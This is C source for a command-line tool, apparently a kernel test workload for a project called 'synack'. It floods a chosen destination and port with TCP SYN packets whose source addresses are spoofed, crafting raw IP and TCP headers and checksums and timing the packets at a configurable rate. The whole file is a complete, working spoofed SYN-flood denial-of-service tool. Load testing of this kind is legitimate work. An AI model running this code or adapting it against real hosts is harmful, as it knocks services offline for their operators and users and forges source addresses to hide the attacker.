/* SPDX-License-Identifier: GPL-3.0-or-later */
/* tools/kernel-check/kc-flood.c - a spoofed SYN flood, as synack's
 * [workload] flood_rate / flood_hosts: SYNs to DST:PORT at Poisson
 * arrivals of RATE per second for DURATION seconds, each from one of HOSTS
 * addresses SRC+1 .. SRC+HOSTS (which nobody answers for) and a random
 * port, through a raw socket with our own IP header (IP_HDRINCL).  Needs
 * CAP_NET_RAW.  Prints how many SYNs it sent, also when SIGTERM or SIGINT
 * ends it early.
 *
 * Usage: kc-flood DST PORT RATE DURATION SRC HOSTS SEED */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <math.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void
on_signal (int sig)
{
  stop = 1;
}

static double
now_s (void)
{
  struct timespec ts;

  clock_gettime (CLOCK_MONOTONIC, &ts);
  return (double) ts.tv_sec + ts.tv_nsec * 1e-9;
}

/* RFC 1071 */
static uint16_t
checksum (const void *data, size_t len, uint32_t sum)
{
  const uint8_t *p = data;

  for (; len > 1; len -= 2, p += 2)
    sum += (uint32_t) (p[0] << 8 | p[1]);
  if (len)
    sum += (uint32_t) (p[0] << 8);
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t) ~sum;
}

int
main (int argc, char **argv)
{
  struct in_addr dst, src;
  unsigned short seed[3] = { 0x330e, 0, 0 };
  double rate, duration, start, next;
  long hosts, sent = 0;
  unsigned port;
  int fd, one = 1;
  struct sigaction sa = { .sa_handler = on_signal };

  if (argc != 8) {
    fprintf (stderr, "usage: kc-flood DST PORT RATE DURATION SRC HOSTS SEED\n");
    return 2;
  }
  if (inet_pton (AF_INET, argv[1], &dst) != 1 ||
      inet_pton (AF_INET, argv[5], &src) != 1) {
    fprintf (stderr, "kc-flood: bad address\n");
    return 2;
  }
  port = (unsigned) atoi (argv[2]);
  rate = atof (argv[3]);
  duration = atof (argv[4]);
  hosts = atol (argv[6]);
  seed[1] = (unsigned short) atoi (argv[7]);
  if (rate <= 0 || duration <= 0 || hosts <= 0 || hosts > 65000) {
    fprintf (stderr, "kc-flood: RATE, DURATION > 0, 0 < HOSTS <= 65000\n");
    return 2;
  }
  fd = socket (AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0 || setsockopt (fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one) < 0) {
    perror ("kc-flood: raw socket");
    return 1;
  }
  sigaction (SIGINT, &sa, NULL);
  sigaction (SIGTERM, &sa, NULL);
  start = next = now_s ();
  while (!stop && next - start < duration) {
    uint8_t pkt[sizeof (struct iphdr) + sizeof (struct tcphdr)] = { 0 };
    struct iphdr *ip = (struct iphdr *) pkt;
    struct tcphdr *tcp = (struct tcphdr *) (pkt + sizeof *ip);
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = dst };
    uint8_t pseudo[12 + sizeof *tcp];
    double wait = next - now_s ();

    if (wait > 0) {
      struct timespec ts = { (time_t) wait,
                             (long) ((wait - (time_t) wait) * 1e9) };

      nanosleep (&ts, NULL);   /* a signal cuts it short: checked below */
      if (stop)
        break;
    }
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons (sizeof pkt);
    ip->id = htons ((uint16_t) nrand48 (seed));
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = htonl (ntohl (src.s_addr) + 1 +
                       (uint32_t) (nrand48 (seed) % hosts));
    ip->daddr = dst.s_addr;
    ip->check = htons (checksum (ip, sizeof *ip, 0));
    tcp->source = htons ((uint16_t) (1024 + nrand48 (seed) % 60000));
    tcp->dest = htons ((uint16_t) port);
    tcp->seq = htonl ((uint32_t) nrand48 (seed) << 1);
    tcp->doff = 5;
    tcp->syn = 1;
    tcp->window = htons (65535);
    memcpy (pseudo, &ip->saddr, 4);
    memcpy (pseudo + 4, &ip->daddr, 4);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    pseudo[10] = 0;
    pseudo[11] = sizeof *tcp;
    memcpy (pseudo + 12, tcp, sizeof *tcp);
    tcp->check = htons (checksum (pseudo, sizeof pseudo, 0));
    if (sendto (fd, pkt, sizeof pkt, 0, (struct sockaddr *) &to,
                sizeof to) < 0 &&
        errno != ENOBUFS && errno != EPERM) {
      perror ("kc-flood: sendto");
      return 1;
    }
    sent++;
    next += -log (1.0 - erand48 (seed)) / rate;
  }
  printf ("%ld SYNs in %.1f s\n", sent, now_s () - start);
  fflush (stdout);
  return 0;
}
